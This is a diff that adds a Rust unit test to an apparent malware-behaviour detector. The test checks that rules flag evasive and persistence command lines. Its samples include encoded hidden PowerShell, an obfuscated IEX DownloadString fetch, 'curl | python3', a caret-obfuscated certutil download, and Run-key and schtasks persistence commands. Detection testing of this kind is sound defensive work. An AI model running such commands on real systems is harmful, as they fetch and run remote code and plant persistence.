@@ -877,6 +877,49 @@ mod tests {
     }
 
     #[test]
+    fn command_lines_are_read_as_their_shells_read_them() {
+        let rules = Rules::builtin();
+        let fired = |command: &str| -> Vec<String> {
+            rules
+                .evaluate(&report(json!([]), json!({ "commands": [command] })))
+                .reasons
+                .into_iter()
+                .map(|r| r.rule)
+                .filter(|r| r != "process.command")
+                .collect()
+        };
+        for evasive in [
+            "powershell -w hidden -enc QUFBQUFBQUFBQUFB",
+            "powershell -ec QUFBQUFBQUFBQUFB",
+            "powershell.exe /en QUFBQUFBQUFBQUFB",
+            "pwsh -win 1 -c x",
+            "powershell -c \"I`EX (New-Object Net.WebClient).DownloadString('http://x')\"",
+            "sh -c \"curl -s http://x.example/a | python3\"",
+            "cmd /c c^ertutil -urlcache -f http://x.example/a a.exe",
+        ] {
+            assert_eq!(
+                fired(evasive),
+                ["process.evasive-command-line"],
+                "{evasive}"
+            );
+        }
+        for persists in [
+            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe /f",
+            "cmd /c schtasks /create /tn x /tr a.exe /sc onlogon",
+        ] {
+            assert_eq!(fired(persists), ["persistence.command-line"], "{persists}");
+        }
+        for plain in [
+            "powershell -ExecutionPolicy Unrestricted -File a.ps1",
+            "wget -w 1 http://x.example/a",
+            "notepad.exe readme.txt",
+            "reg query HKLM\\Software",
+        ] {
+            assert!(fired(plain).is_empty(), "{plain}: {:?}", fired(plain));
+        }
+    }
+
+    #[test]
     fn every_point_names_its_rule_and_evidence() {
         let r = report(
             json!([{ "seq": 4, "call": "WScript.Shell.RegWrite", "args": "\"HKCU\\\\...\"", "category": "registry" }]),
